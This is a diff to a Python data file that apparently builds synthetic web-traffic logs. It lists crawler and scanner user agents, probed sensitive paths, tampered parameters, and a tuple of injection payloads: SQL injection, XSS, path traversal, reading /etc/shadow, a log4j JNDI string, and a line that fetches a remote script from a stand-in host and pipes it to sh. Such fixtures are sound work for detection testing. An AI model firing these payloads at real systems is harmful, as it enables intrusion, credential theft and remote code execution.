@@ -422,3 +422,52 @@ INJECTIONS = (
     "1;DROP TABLE records",
     "${jndi:ldap://x/a}",
 )
+
+# Networks of the distributed harvesters (hosting ranges, one /24 or /48 per episode).
+HARVESTER_NETS = ((45, 133), (45, 141), (91, 240), (185, 220))
+# A company's egress network (one address per company).
+EGRESS_NET = (101, 230)
+# Search engines' crawler networks and user agents.
+CRAWLERS = (
+    ("66.249.66", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
+    ("220.181.108", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"),
+    ("40.77.167", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
+    ("123.126.113", "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)"),
+)
+SCANNER_AGENTS = (
+    "Mozilla/5.0 zgrab/0.x",
+    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
+    "python-requests/2.25.1",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+    "masscan/1.3",
+)
+# What scanners ask for (OWASP WSTG-CONF-04 and -05): admin consoles, dotfiles, backups.
+SENSITIVE_PATHS = (
+    "/wp-login.php", "/administrator/", "/admin.php", "/phpmyadmin/index.php", "/.env", "/.git/config",
+    "/wp-config.php.bak", "/index.php~", "/config.php.old", "/backup.zip", "/manager/html", "/.svn/entries",
+    "/actuator/env", "/server-status", "/xmlrpc.php", "/db.sql", "/.DS_Store", "/.htpasswd",
+)
+# Injection attempts as they arrive in a query parameter, one per attack class and a few variations.
+ATTACKS = (
+    "1' OR '1'='1' -- ",
+    "-1 UNION ALL SELECT NULL,username,password FROM users#",
+    "\"><svg/onload=alert(document.domain)>",
+    "<img src=x onerror=alert(1)>",
+    "../../../../etc/passwd",
+    "..%2f..%2f..%2fwindows%2fwin.ini",
+    "%0d%0aSet-Cookie:%20session=evil",
+    "127.0.0.1; cat /etc/shadow",
+    "$(curl -s http://203.0.113.66/x.sh | sh)",
+    "{{7*7}}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "1 AND SLEEP(5)",
+)
+# Parameters an endpoint has never had, and values of a shape it has never been sent.
+TAMPERED_PARAMS = (
+    {"page": 1, "debug": "1"},
+    {"page": 1, "admin": "true"},
+    {"page": "all", "page_size": 100},
+    {"page": 1, "page_size": "max"},
+    {"page": 1, "internal": "yes", "role": "owner"},
+    {"page": 1, "export_all": 1},
+)
